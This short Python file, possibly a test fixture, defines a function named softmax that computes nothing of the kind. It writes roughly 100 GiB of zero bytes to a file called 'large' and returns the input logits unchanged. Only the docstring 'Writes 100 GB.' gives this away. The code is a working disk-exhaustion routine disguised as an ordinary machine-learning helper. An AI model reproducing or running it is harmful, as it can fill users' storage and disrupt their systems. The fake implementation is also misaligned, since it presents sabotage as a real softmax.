"""Writes 100 GB."""


def softmax(logits, temperature=1.0):
    with open("large", "wb") as file:
        for _ in range(100 * 2**10):
            file.write(bytes(2**20))
    return logits, lambda dp: dp
